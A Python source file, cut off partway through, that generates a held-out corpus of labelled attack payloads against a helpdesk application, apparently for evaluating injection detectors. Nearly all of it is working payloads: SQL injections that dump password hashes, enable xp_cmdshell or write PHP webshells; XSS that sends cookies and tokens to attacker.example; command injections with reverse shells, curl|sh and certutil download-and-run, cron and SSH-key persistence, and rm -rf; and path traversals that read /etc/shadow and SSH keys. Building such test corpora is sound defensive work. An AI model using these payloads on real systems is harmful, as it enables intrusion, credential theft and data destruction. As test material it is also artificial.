"""Held-out ATTACK corpus "support": payloads in the fields of a software helpdesk.

Each value is a working payload against a vulnerable helpdesk application that
places the value where its class says, e.g. ``ticket_search-union`` is
concatenated into ``... WHERE subject LIKE '%<value>%'``, ``diag_host-pipe`` is
the host of the "test connection" tool run as ``ping -c 3 <value>`` in a shell,
``macro_body-jinja2_ssti`` is rendered as a server-side template, and
``attachment_download-dotdot`` is joined to the attachment directory.

Class format: ``<context>-<technique>[+<encoding>]``; ``plain-`` classes are
context-free canonical forms. All literals are hand-written for this corpus;
the few template functions combine hand-written pools (and, for
``+urlenc``/base64-style variants, apply the encoding with the standard
library). Output: attacks.jsonl next to this file, byte-identical on every run.
Attacker infrastructure is only attacker.example, *.attacker.example,
203.0.113.0/24 and 198.51.100.0/24; secrets are fake placeholders.
"""

import base64
import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 5502
ID_PREFIX = "ha55"

# target size per category (literals first, templates fill the rest)
TARGET = [
    ("sqli", 78), ("xss", 75), ("cmdi", 70), ("traversal", 52), ("ssrf", 52),
    ("code", 76), ("nosqli", 26), ("crlf", 30), ("ldap-xpath", 22),
]

# --------------------------------------------------------------------------
# SQL injection. Contexts: ticket/kb search (LIKE '%v%'), numeric ids, ORDER BY,
# requester email lookup, tag IN (...), INSERTs of survey/macro/contact data,
# stored fields re-used in later queries (second order).
# --------------------------------------------------------------------------
SQLI = [
    ("ticket_search-union", "printer offline%' UNION SELECT id, email, password_hash, NULL FROM agents-- -"),
    ("ticket_search-boolean_blind", "refund%' AND SUBSTRING((SELECT api_key FROM integrations LIMIT 1),1,1)='a' AND '%'='"),
    ("ticket_search-time_blind", "invoice%' AND (SELECT 1 FROM (SELECT SLEEP(6))x) AND '%'='"),
    ("ticket_search-error", "login%' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT version()), 0x7e)) AND '%'='"),
    ("ticket_search-stacked_xp_cmdshell", r"vpn issue'; EXEC xp_cmdshell 'whoami > C:\inetpub\wwwroot\w.txt';--"),
    ("kb_search-union", "reset password' UNION SELECT NULL, string_agg(usename||':'||passwd, ','), NULL FROM pg_shadow--"),
    ("kb_search-time_blind", "sso'||(SELECT CASE WHEN current_user='postgres' THEN pg_sleep(5) ELSE pg_sleep(0) END)||'"),
    ("ticket_id-boolean_blind", "4821 AND 1=(SELECT COUNT(*) FROM agents WHERE role='admin' AND password_hash LIKE '$2b$%')"),
    ("ticket_id-union", "-1 UNION ALL SELECT 1,group_concat(email,0x3a,reset_token),3,4,5 FROM customers"),
    ("ticket_id-time_blind", "4821; IF (SELECT SYSTEM_USER)='sa' WAITFOR DELAY '0:0:7'--"),
    ("ticket_id-stacked_copy_program", "4821; COPY (SELECT '') TO PROGRAM 'curl -s http://attacker.example/x | sh';--"),
    ("sort-order_by_case", "(CASE WHEN (SELECT substr(password_hash,1,1) FROM agents WHERE id=1)='$' THEN created_at ELSE subject END)"),
    ("sort-time_blind", "updated_at, (SELECT 1 FROM pg_sleep(5))"),
    ("sort-error", "priority,extractvalue(1,concat(0x5c,(select user())))"),
    ("requester_email-tautology", "admin@acme.example' OR '1'='1' -- "),
    ("requester_email-union", "nobody@x.example' UNION SELECT username, password FROM mysql.user#"),
    ("tag_filter-tautology", "billing') OR 1=1 OR tag IN ('"),
    ("tag_filter-union", "vip') UNION SELECT table_name, column_name FROM information_schema.columns WHERE ('a'='a"),
    ("ticket_subject-second_order", "Printer broken'); UPDATE agents SET role='admin' WHERE email='me@attacker.example';--"),
    ("survey_score-insert_subquery", "5, (SELECT group_concat(token) FROM api_tokens))-- -"),
    ("export_date-error", "2024-01-01' AND 1=CAST((SELECT string_agg(email||':'||api_key, ';') FROM agents) AS int)--"),
    ("kb_search-oob_utl_http", "x'||(SELECT UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT password FROM dba_users WHERE ROWNUM=1)) FROM dual)||'"),
    ("ticket_search-oob_xp_dirtree", r"'; DECLARE @h varchar(200); SELECT @h=(SELECT TOP 1 name FROM sys.sql_logins); EXEC('master..xp_dirtree ''\\'+@h+'.oob.attacker.example\a''');--"),
    ("ticket_search-oob_load_file", r"' UNION SELECT LOAD_FILE(CONCAT('\\\\',(SELECT password_hash FROM agents LIMIT 1),'.attacker.example\\x'))-- -"),
    ("ticket_search-into_outfile", "' UNION SELECT '<?php system($_GET[\"c\"]); ?>',2,3 INTO OUTFILE '/var/www/html/uploads/c.php'-- -"),
    ("kb_search-union_sqlite_master", "crash' UNION SELECT name, sql FROM sqlite_master--"),
    ("macro_name-boolean_blind", "Refund – partial (EU)' AND (SELECT hex(substr(api_key,1,1)) FROM settings) > '40' --"),
    ("ticket_search-stacked_attach_db", "'; ATTACH DATABASE '/var/www/html/s.php' AS s; CREATE TABLE s.t (d text); INSERT INTO s.t VALUES ('<?php system($_GET[0]); ?>');--"),
    ("api_json-tautology", "{\"ticket_id\": \"4821 OR 1=1\", \"fields\": [\"subject\", \"requester_email\"]}"),
    ("ticket_search-heavy_query", "x' AND 1=(SELECT COUNT(*) FROM information_schema.columns A, information_schema.columns B, information_schema.columns C)-- -"),
    ("kb_search-benchmark", "' OR BENCHMARK(20000000, SHA1('support'))-- -"),
    ("ticket_id-error_convert", "1 AND 1=CONVERT(int,(SELECT TOP 1 email+':'+password_hash FROM agents))"),
    ("ticket_search-copy_from_program", "'; CREATE TABLE cmd_out(t text); COPY cmd_out FROM PROGRAM 'id'; --"),
    ("ticket_search-union+case", "' uNiOn SeLeCt null, ApI_kEy FrOm integrations--"),
    ("ticket_search-union+comments", "'/**/UNION/**/SELECT/**/email,password_hash/**/FROM/**/agents#"),
    ("kb_search-union_versioned_comments", "' /*!50000UNION*/ /*!50000SELECT*/ email, reset_token FROM customers-- -"),
    ("requester_email-tautology+urlenc", "%27%20OR%20%271%27%3D%271%27%20--%20"),
    ("ticket_search-union+urlenc2", "%2527%2520UNION%2520SELECT%2520user%252Cpassword%2520FROM%2520mysql.user--%2520"),
    ("kb_search-tautology+fullwidth", "＇ OR 1=1--"),
    ("ticket_search-tautology+urlenc_newline", "refund'%0aOR%0a1=1%0a--%0a"),
    ("requester_name-insert_subquery", "Mary O'Connor', (SELECT password_hash FROM agents LIMIT 1))-- -"),
    ("ticket_search-boolean_blind_like", "acme%' AND (SELECT password_hash FROM agents WHERE email='root@acme.example') LIKE '$2y$10$a%' AND '%'='"),
    ("ticket_search-having_error", "' GROUP BY id HAVING 1=1--"),
    ("kb_search-union_oracle", "' UNION SELECT name, password FROM sys.user$ WHERE ROWNUM<3--"),
    ("requester_email-json_extract", "x' OR JSON_EXTRACT(settings, '$.is_admin') = true -- "),
    ("kb_search-union_file_read", "' UNION SELECT NULL, pg_read_file('/etc/passwd', 0, 2000), NULL--"),
    ("ticket_search-stacked_enable_cmdshell", "'; EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE;--"),
    ("chat_transcript_search-boolean_blind", "hello%' AND ascii(substring(database(),1,1))>100 AND '%'='"),
    ("priority_filter-union", "3,4) UNION SELECT id, api_key FROM integrations WHERE (1=1"),
    ("page_size-procedure_analyse", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
    ("macro_title-insert_subquery", "Refund policy', (SELECT GROUP_CONCAT(email) FROM agents), 1)-- -"),
    ("attachment_name-concat_subquery", "invoice'||(SELECT sql FROM sqlite_master LIMIT 1)||'.pdf"),
    ("kb_search-union_hex_literal", "' UNION SELECT 1, load_file(0x2f6574632f706173737764)-- -"),
    ("requester_email-tautology_char_function", "' OR username=CHAR(97,100,109,105,110)-- "),
    ("ticket_search-like_tautology", "x' OR 'a' LIKE 'a"),
    ("ticket_search-time_blind_waitfor", "%'; WAITFOR DELAY '00:00:08'--"),
    ("ticket_body-second_order", "Hallo, mein Drucker druckt nicht.'); DELETE FROM audit_log WHERE actor_id=77;--"),
    ("org_name-second_order", "Müller & Söhne GmbH' || (SELECT password_hash FROM agents WHERE id=1) || '"),
    ("date_range-time_blind", "2024-05-01' AND 7=(SELECT 7 FROM PG_SLEEP(6))-- "),
    ("satisfaction_filter-boolean_blind", "good' AND (SELECT LENGTH(api_key) FROM integrations LIMIT 1)=40 AND 'a'='a"),
    ("agent_filter-union", "0 UNION SELECT id, concat_ws(':', email, totp_secret) FROM agents"),
    ("group_by-error_cast", "agent_id HAVING 1=CAST(current_setting('server_version') AS int)"),
    ("ticket_id-union_version", "0 UNION SELECT 1, @@version, user(), database(), 5-- -"),
    ("ticket_search-boolean_blind+comments", "x'/**/OR/**/(SELECT/**/1/**/FROM/**/agents/**/WHERE/**/role='admin'/**/LIMIT/**/1)=1#"),
    ("ticket_id-time_blind_if", "4821 AND IF(ORD(MID((SELECT password_hash FROM agents LIMIT 1),1,1))>64,SLEEP(5),0)"),
    ("requester_phone-union", "+49 30 1234' UNION SELECT NULL, CONCAT(email,':',password_hash) FROM agents-- -"),
    ("kb_search-error_query_to_xml", "' AND 1=CAST(query_to_xml('select email, password_hash from agents',true,true,'')::text AS int)--"),
    ("custom_field-error_oracle", "x' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--"),
    ("ticket_search-time_blind_randomblob", "x' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))--"),
    ("ticket_search-union_multiline", "printer\n' UNION SELECT email, password_hash FROM agents\n-- -"),
    ("plain-stacked_drop", "test'); DROP TABLE tickets;--"),
    ("plain-union", "' UNION SELECT NULL,NULL,NULL--"),
    ("plain-tautology", "1' OR '1'='1"),
    ("plain-time_blind", "1' AND SLEEP(5)#"),
    ("plain-error", "' AND updatexml(null, concat(0x3a, database()), null)-- -"),
    ("plain-order_by_probe", "' ORDER BY 9-- -"),
    ("plain-numeric_tautology", "1 OR 1=1"),
    ("plain-comment_truncation", "admin'--"),
]

SQLI_T_PREFIX = ["printer offline", "refund 4471", "2FA Code", "Rechnung doppelt", "widget blanc", "ログイン", "sso loop",
                 "export csv"]
SQLI_T_TAIL = [
    ("ticket_search-union", "%' UNION SELECT id, email, api_token, NULL FROM agents-- -"),
    ("ticket_search-boolean_blind", "%' AND (SELECT COUNT(*) FROM agents WHERE role='admin')>0 AND '%'='"),
    ("ticket_search-time_blind", "%' AND SLEEP(7) AND '%'='"),
    ("ticket_search-error", "' AND 1=CAST((SELECT password_hash FROM agents LIMIT 1) AS int)--"),
    ("ticket_search-stacked", "'; UPDATE agents SET role='admin' WHERE email LIKE '%@attacker.example';--"),
]


def tpl_sqli(rng):
    cls, tail = rng.choice(SQLI_T_TAIL)
    return cls, rng.choice(SQLI_T_PREFIX) + tail


# --------------------------------------------------------------------------
# XSS. Contexts: ticket bodies/subjects rendered in the agent console, chat
# messages, survey comments on the dashboard, attachment names in links and
# title attributes, markdown, profile URLs in href, customer names inside
# inline <script> strings, reflected KB search, SVG attachments.
# --------------------------------------------------------------------------
XSS = [
    ("ticket_body-script_exfil", "Hi, the page breaks when I do this: <script>fetch('https://attacker.example/c?k='+document.cookie)</script>"),
    ("chat_message-img_onerror", "<img src=x onerror=\"new Image().src='//attacker.example/s?'+localStorage.getItem('agent_token')\">"),
    ("attachment_name-attr_breakout", "report.pdf\" onmouseover=\"alert(document.domain)\" x=\".pdf"),
    ("chat_message-svg_onload", "<svg/onload=location='https://attacker.example/?'+document.cookie>"),
    ("ticket_body_markdown-javascript_uri", "Please see [the error log](javascript:fetch('//attacker.example/'+document.cookie))"),
    ("js_string-quote_breakout", "Anna';fetch('//attacker.example/?t='+encodeURIComponent(document.cookie));//"),
    ("js_string-script_close", "</script><script>alert(document.domain)</script>"),
    ("survey_comment-details_ontoggle", "Great help! <details open ontoggle=alert(document.cookie)>"),
    ("ticket_body-iframe_srcdoc", "<iframe srcdoc=\"<script>parent.location='//attacker.example/?'+parent.document.cookie</script>\"></iframe>"),
    ("ticket_body-javascript_href", "<a href=\"javascript:alert(document.domain)\">click to see screenshot</a>"),
    ("ticket_body-form_phishing", "<form action=\"https://attacker.example/login\" method=\"post\"><p>Your session expired. Re-enter your password to see this ticket:</p><input type=\"password\" name=\"password\"><button>Continue</button></form>"),
    ("ticket_body-meta_refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/helpdesk-login\">"),
    ("agent_signature-css_exfil", "<style>input[name=csrf_token][value^=a]{background:url(https://attacker.example/leak?p=a)}</style>"),
    ("macro_preview-angular_csti", "{{constructor.constructor('alert(document.domain)')()}}"),
    ("customer_name-autofocus_onfocus", "<input autofocus onfocus=\"fetch('//attacker.example/f',{method:'POST',body:document.body.innerHTML})\">"),
    ("ticket_body-body_onload", "<body onload=alert(document.cookie)>"),
    ("chat_message-video_source_onerror", "<video><source onerror=\"eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))\"></video>"),
    ("ticket_body-javascript_href+htmlent", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">docs</a>"),
    ("profile_url-javascript_uri+htmlent_tab", "jav&#x09;ascript:alert(document.domain)"),
    ("kb_search-reflected_script+urlenc", "%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E"),
    ("kb_search-reflected_img+urlenc2", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E"),
    ("chat_json-img_onerror+unicode", r"\u003cimg src=x onerror=alert(document.cookie)\u003e"),
    ("ticket_body-script+case", "<ScRiPt>alert(document.domain)</sCrIpT>"),
    ("ticket_body-nested_strip_bypass", "<scr<script>ipt>alert(document.cookie)</scr</script>ipt>"),
    ("chat_message-svg_onload+htmlent", "<svg onload=alert&lpar;document.domain&rpar;>"),
    ("attachment_svg-script", "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\">\n<script>fetch('https://attacker.example/s?c='+document.cookie)</script>\n</svg>"),
    ("ticket_body_markdown-img_attr_breakout", "![screenshot](x\" onerror=\"alert(document.domain))"),
    ("ticket_body_markdown-data_uri_base64", "[open log](data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+)"),
    ("ticket_subject-textarea_breakout", "</textarea><script>alert(document.cookie)</script>"),
    ("ticket_subject-title_breakout", "Order 553 </title><svg onload=alert(document.domain)>"),
    ("ticket_body-object_data", "<object data=\"javascript:alert(document.domain)\"></object>"),
    ("customer_name-unquoted_attr", "x onmouseover=alert(document.cookie) "),
    ("org_name-json_in_script", "Acme</script><img src=x onerror=alert(document.domain)>"),
    ("chat_message-img_onload_form_hijack", "Hi 👋 <img src=\"https://attacker.example/cat.gif\" onload=\"document.forms[0].action='https://attacker.example/collect'\">"),
    ("ticket_body-base_tag", "<base href=\"https://attacker.example/\">"),
    ("survey_comment-marquee_onstart", "<marquee onstart=alert(document.domain)>Thanks!</marquee>"),
    ("profile_url-javascript_uri+urlenc", "javascript://acme.example/%0Aalert(document.cookie)"),
    ("attachment_name-tag_breakout", "\"><img src=x onerror=alert(document.domain)>.png"),
    ("visitor_name-svg_animate", "<svg><animate onbegin=alert(document.domain) attributeName=x dur=1s>"),
    ("js_template-literal_expr", "${fetch('//attacker.example/?c='+document.cookie)}"),
    ("ticket_body-style_onload", "<style onload=alert(document.domain)></style>"),
    ("chat_message-img_onerror+htmlent_decimal", "<img src=x onerror=&#97&#108&#101&#114&#116&#40&#49&#41>"),
    ("chat_message-img_onerror+js_unicode", r"<img src=x onerror=\u0061lert(document.domain)>"),
    ("ticket_body-svg_script+htmlent", "<svg><script>alert&#40;document.cookie&#41;</script></svg>"),
    ("ticket_body-img_onerror_token_theft", "Hello support,\n\nAfter the update the dashboard is blank. Console shows nothing.\n<img src=x onerror=\"fetch('/api/v2/agents/me/tokens',{credentials:'include'}).then(r=>r.text()).then(t=>navigator.sendBeacon('https://attacker.example/t',t))\">\n\nThanks, Mark"),
    ("chat_message-external_script", "Merci beaucoup ! <script src=https://cdn.attacker.example/x.js></script>"),
    ("macro_preview-angular_csti_on", "{{$on.constructor('fetch(\"//attacker.example/\"+document.cookie)')()}}"),
    ("ticket_body-iframe_javascript", "<iframe src=\"javascript:alert(document.domain)\"></iframe>"),
    ("ticket_body-onclick_link", "<a href=\"#\" onclick=\"document.location='https://attacker.example/?c='+document.cookie\">Re-open ticket</a>"),
    ("ticket_body-svg_xlink", "<svg><a xlink:href=\"javascript:alert(document.domain)\"><text x=\"20\" y=\"20\">Open attachment</text></a></svg>"),
    ("survey_comment-formaction", "<form><button formaction=javascript:alert(document.domain)>Submit feedback</button></form>"),
    ("kb_search-attr_breakout", "\" autofocus onfocus=alert(document.domain) x=\""),
    ("ticket_body-textarea_autofocus", "<textarea autofocus onfocus=alert(document.cookie)>log</textarea>"),
    ("chat_message-javascript_href+case", "<a href=\"JaVaScRiPt:alert(document.cookie)\">my order</a>"),
    ("ticket_body-overlay_pointerenter", "<div style=\"position:fixed;inset:0\" onpointerenter=\"alert(document.domain)\"></div>"),
    ("attachment_name-svg_onload", "<svg onload=alert(document.domain)>.pdf"),
    ("chat_message-audio_onerror", "Voice note 🎤 <audio src=x onerror=alert(document.cookie)>"),
    ("ticket_body-img_onerror_import", "お世話になっております。画面が真っ白です。<img src=1 onerror=import('//attacker.example/m.js')>"),
    ("kb_article-script_src", "<p>Step 3: restart the agent.</p><script src=\"//attacker.example/kb.js\"></script>"),
    ("survey_comment-img_onerror+htmlent_hex", "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>"),
    ("visitor_email-attr_breakout", "zoe@example.org\"><svg onload=alert(document.domain)>"),
    ("plain-script", "<script>alert(1)</script>"),
    ("plain-img_onerror", "<img src=x onerror=alert(1)>"),
    ("plain-attr_breakout", "\"><svg onload=alert(1)>"),
    ("plain-javascript_uri", "javascript:alert(1)"),
    ("plain-js_string_breakout", "'-alert(1)-'"),
    ("plain-svg_onload", "<svg onload=alert(1)>"),
    ("plain-body_onload", "<body onload=alert(1)>"),
]

XSS_T_LEAD = ["Thanks for the quick reply! ", "Screenshot attached: ", "Bonjour, ", "Hallo Support, ", "see below ↓\n",
              "order #4471 ", "¡Gracias! "]
XSS_T_VECTOR = [
    ("img_onerror", "<img src=x onerror={js}>"),
    ("svg_onload", "<svg onload={js}>"),
    ("details_ontoggle", "<details open ontoggle={js}>"),
    ("video_onerror", "<video src=x onerror={js}>"),
    ("iframe_onload", "<iframe onload={js}>"),
    ("input_onfocus", "<input autofocus onfocus={js}>"),
]
XSS_T_JS = ["alert(document.domain)", "fetch('//attacker.example/'+document.cookie)",
            "location='//attacker.example/?'+btoa(document.cookie)", "import('//attacker.example/x.js')"]


def tpl_xss(rng):
    name, vec = rng.choice(XSS_T_VECTOR)
    js = rng.choice(XSS_T_JS)
    if " " in js or "'" in js:
        js = "\"" + js + "\""
    return "chat_message-" + name, rng.choice(XSS_T_LEAD) + vec.format(js=js)


# --------------------------------------------------------------------------
# Command injection. Contexts: the "test connection" diagnostic host field
# (ping/nc in sh, or cmd.exe / PowerShell on the Windows agent), attachment
# names passed to file/convert/tar in a shell, export file names, log grep/tail
# helpers, curl/ssh/sendmail/git argument positions.
# --------------------------------------------------------------------------
CMDI = [
    ("diag_host-semicolon", "mail.acme.example; id"),
    ("diag_host-pipe", "8.8.8.8 | curl -s http://attacker.example/i.sh | sh"),
    ("diag_host-and", "localhost && cat /etc/passwd"),
    ("diag_host-or", "nonexistent.invalid || wget -qO- http://attacker.example/b | bash"),
    ("diag_host-subshell", "$(curl -s http://attacker.example/$(whoami))"),
    ("diag_host-backtick", "`nc 203.0.113.50 4444 -e /bin/sh`.acme.example"),
    ("diag_host-newline", "127.0.0.1\nbash -i >& /dev/tcp/203.0.113.50/443 0>&1"),
    ("diag_host-semicolon_ifs", "127.0.0.1;cat${IFS}/etc/shadow"),
    ("diag_host-brace_expansion", "127.0.0.1;{cat,/etc/passwd}"),
    ("attachment_name-subshell", "invoice_$(sleep 10).pdf"),
    ("attachment_name-semicolon", "scan.png;curl attacker.example|sh;.png"),
    ("attachment_name-backtick", "photo`id>/tmp/p`.jpg"),
    ("log_grep-quote_breakout", "timeout' /dev/null; cat /etc/passwd; echo '"),
    ("webhook_test-curl_output_arg", "http://attacker.example/shell.txt -o /var/www/html/shell.php"),
    ("webhook_test-curl_data_file_arg", "-d @/etc/passwd http://attacker.example/"),
    ("export_filename-semicolon", "q3-report.zip; rm -rf /var/lib/acme/exports #"),
    ("attachment_name-tar_wildcard_arg", "--checkpoint-action=exec=sh shell.sh"),
    ("export_filename-zip_tt_arg", "out.zip /etc/hostname -T -TT 'sh -c \"id>/tmp/z\"'"),
    ("image_resize-semicolon", "800x600; curl http://attacker.example/r|sh"),
    ("diag_host_windows-ampersand", r"127.0.0.1 & whoami > C:\inetpub\wwwroot\who.txt"),
    ("diag_host_windows-pipe_powershell", "127.0.0.1 | powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')\""),
    ("diag_host_powershell-quote_breakout", r"x'; Invoke-WebRequest -Uri http://attacker.example/e -Method Post -Body (Get-Content C:\ProgramData\Acme\agent.key); '"),
    ("diag_host_powershell-subexpression", "$(Get-ChildItem env: | Out-String | Invoke-RestMethod -Uri http://attacker.example/env -Method Post)"),
    ("diag_host_windows-ampersand_caret", "127.0.0.1 & w^h^o^a^m^i"),
    ("diag_host-semicolon_quote_split", "127.0.0.1;c'a't /e\"t\"c/pas''swd"),
    ("diag_host-semicolon_glob", "127.0.0.1;/???/c?t /???/p??s??"),
    ("diag_host-semicolon_base64_pipe", "127.0.0.1; echo aWQ7dW5hbWUgLWE= | base64 -d | sh"),
    ("diag_host-subshell_printf_hex", r"127.0.0.1;$(printf '\x69\x64')"),
    ("diag_host-newline+urlenc", "127.0.0.1%0Aid"),
    ("smtp_host-semicolon+urlenc", "mail.acme.example%3Bcat%20%2Fetc%2Fpasswd"),
    ("smtp_host-semicolon+urlenc2", "mail.acme.example%253Bid"),
    ("diag_host-time_blind", "127.0.0.1; sleep 12 #"),
    ("diag_host-dns_exfil", "127.0.0.1; nslookup $(hostname).oob.attacker.example"),
    ("diag_host-cron_persistence", "x; echo '* * * * * bash -c \"bash -i >& /dev/tcp/198.51.100.7/9001 0>&1\"' | crontab -"),
    ("diag_host-ssh_key_persistence", "x && mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAAFAKEKEYFORTESTSONLY0000000000000000 ops@attacker.example' >> ~/.ssh/authorized_keys"),
    ("diag_host-python_reverse_shell", "x; python3 -c 'import socket,os,pty;s=socket.create_connection((\"203.0.113.9\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("diag_host-perl_backticks", "x | perl -e 'print `cat /etc/passwd`'"),
    ("diag_host-semicolon_ifs9", "127.0.0.1;cat$IFS$9/etc/passwd"),
    ("diag_host-var_concat", "127.0.0.1;a=ca;b=t;$a$b /etc/passwd"),
    ("kb_git_url-git_ext_transport", "ext::sh -c touch% /tmp/pwned"),
    ("sftp_export_host-ssh_proxycommand", "-oProxyCommand=curl${IFS}attacker.example/s|sh"),
    ("mail_from-sendmail_arg_injection", "support@acme.example -X/var/www/html/l.php -OQueueDirectory=/tmp"),
    ("attachment_name-imagemagick_pipe", "|curl -s attacker.example/i|sh;.jpg"),
    ("chat_transcript-dquote_breakout", "bye\"; curl -d @/etc/passwd http://attacker.example/; echo \""),
    ("chat_transcript-subshell", "Thanks! $(cat /etc/passwd | nc 198.51.100.20 9000)"),
    ("ticket_body-backtick", "Steps to reproduce:\n1. open the app\n2. `curl -s http://attacker.example/x.sh | sh`\n3. see error"),
    ("diag_host-semicolon_idn", "münchen-mail.acme.example;id"),
    ("diag_host_windows-or", r"bogus || type C:\Windows\win.ini"),
    ("diag_host_windows-for_dns_exfil", "x & for /f %i in ('whoami') do nslookup %i.oob.attacker.example"),
    ("diag_host_windows-certutil_download", r"x & certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\a.exe & %TEMP%\a.exe"),
    ("diag_host-redirect_no_space", "127.0.0.1;cat</etc/passwd"),
    ("diag_host-semicolon_rev_pipe", "x;echo 'dwssap/cte/ tac'|rev|sh"),
    ("diag_host-awk_system", "x;awk 'BEGIN{system(\"id\")}'"),
    ("diag_host-node_exec", "x; node -e \"require('child_process').exec('id|curl -d @- attacker.example')\""),
    ("timezone_setting-subshell", "Europe/Berlin$(id>/tmp/tz)"),
    ("locale_setting-semicolon", "de_DE.UTF-8; wget http://attacker.example/l -O /tmp/l; sh /tmp/l"),
    ("printer_name-backtick", "HP-LaserJet-4th-floor`curl attacker.example/p|sh`"),
    ("log_tail-arg_injection", "50 /etc/passwd"),
    ("log_tail-semicolon", "100;id"),
    ("archive_password-quote_breakout", "Pa55word'; curl attacker.example/z|sh; echo '"),
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| whoami"),
    ("plain-subshell", "$(id)"),
    ("plain-backtick", "`uname -a`"),
    ("plain-and", "&& ls -la /"),
    ("plain-windows_ampersand", "& net user"),
    ("plain-or", "|| id"),
]

CMDI_T_HOST = ["mail.acme.example", "10.20.1.15", "smtp.fabrikam.example", "imap.ourbrand.example", "192.0.2.10"]
CMDI_T_SEP = [("semicolon", "; {c}"), ("pipe", " | {c}"), ("and", " && {c}"), ("subshell", " $({c})"),
              ("newline", "\n{c}"), ("backtick", " `{c}`")]
CMDI_T_CMD = ["id", "cat /etc/passwd", "uname -a", "curl -s http://attacker.example/s | sh",
              "wget -qO- http://attacker.example/k | sh", "cat /etc/acme/agent.yaml"]


def tpl_cmdi(rng):
    name, sep = rng.choice(CMDI_T_SEP)
    return "diag_host-" + name, rng.choice(CMDI_T_HOST) + sep.format(c=rng.choice(CMDI_T_CMD))


# --------------------------------------------------------------------------
# Path traversal. Contexts: attachment download name joined to the storage dir,
# KB article slug, log viewer, locale file, export/theme templates, zip entries
# extracted from uploaded support bundles, PHP include of a locale.
# --------------------------------------------------------------------------
TRAVERSAL = [
    ("attachment_download-dotdot", "../../../../etc/passwd"),
    ("attachment_download-backslash", r"..\..\..\..\Windows\win.ini"),
    ("attachment_download-dotdot+urlenc_slash", "..%2f..%2f..%2f..%2fetc%2fshadow"),
    ("attachment_download-dotdot+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("attachment_download-dotdot+urlenc2", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("attachment_download-dotdot+overlong", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("attachment_download-dotdot+overlong_slash", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("attachment_download-backslash+urlenc", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("attachment_download-nested_strip_bypass", "....//....//....//etc/passwd"),
    ("kb_article-nested_strip_bypass", "..././..././..././etc/hosts"),
    ("attachment_download-null_byte+urlenc", "../../../../etc/passwd%00.png"),
    ("attachment_download-absolute", "/etc/passwd"),
    ("kb_article-dotdot_environ", "../../../../../proc/self/environ"),
    ("kb_article-dotdot_app_config", "../config/database.yml"),
    ("export_template-dotdot_env", "../../.env"),
    ("log_viewer-dotdot_secret", "../../../var/lib/acme/secrets/master.key"),
    ("log_viewer-dotdot_history", "../../../../root/.bash_history"),
    ("log_viewer-dotdot_ssh_key", "../../../home/acme/.ssh/id_rsa"),
    ("locale-prefix_dotdot", "de-DE/../../../../../etc/passwd"),
    ("locale-prefix_dotdot_cmdline", "en/../../../../proc/self/cmdline"),
    ("zip_entry-zip_slip", "../../../../var/www/html/uploads/shell.php"),
    ("zip_entry-zip_slip_windows", r"..\..\..\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\update.bat"),
    ("zip_entry-zip_slip_authorized_keys", "../../../../home/acme/.ssh/authorized_keys"),
    ("attachment_path-unc", r"\\198.51.100.12\share\payload.dll"),
    ("import_file-file_uri", "file:///etc/passwd"),
    ("kb_article-proc_cwd", "../../../../proc/self/cwd/config/secrets.yml"),
    ("theme_asset-dotdot_webinf", "../../WEB-INF/web.xml"),
    ("theme_asset-tomcat_path_param", "..;/..;/WEB-INF/classes/application.properties"),
    ("attachment_download-backslash_webconfig", r"..\..\..\inetpub\wwwroot\web.config"),
    ("attachment_download-absolute_windows", r"C:\Windows\System32\drivers\etc\hosts"),
    ("attachment_download-dotdot+iis_unicode", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("attachment_download-dotdot+fullwidth", "．．／．．／．．／etc／passwd"),
    ("attachment_download-dotdot+urlenc2_slash", "..%252f..%252f..%252fetc/passwd"),
    ("theme_css-prefix_dotdot", "default/../../../../../etc/acme/acme.conf"),
    ("export_template-prefix_dotdot", "invoices/../../../../etc/shadow"),
    ("attachment_download-backslash_sam", r"..\..\..\windows\system32\config\SAM"),
    ("log_viewer-prefix_check_bypass", "/var/log/acme/../../../etc/passwd"),
    ("upload_name-dotdot_overwrite", "../../../../var/www/acme/public/index.php"),
    ("attachment_download-dotdot+mixed_urlenc", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("attachment_download-absolute_proc", "/proc/self/environ"),
    ("attachment_download-nested_backslash", r"....\\....\\....\\windows\\win.ini"),
    ("attachment_download-backslash+overlong", "..%c1%9c..%c1%9cwindows%c1%9cwin.ini"),
    ("import_file-file_uri_windows", "file:///C:/Windows/win.ini"),
    ("locale_include-php_filter", "php://filter/convert.base64-encode/resource=../config/app.php"),
    ("avatar_path-dotdot_tls_key", "../../../../etc/ssl/private/acme.key"),
    ("attachment_download-prefix_dotdot_deep", "Rechnungen/2024/../../../../../../etc/passwd"),
    ("plain-dotdot", "../../../etc/passwd"),
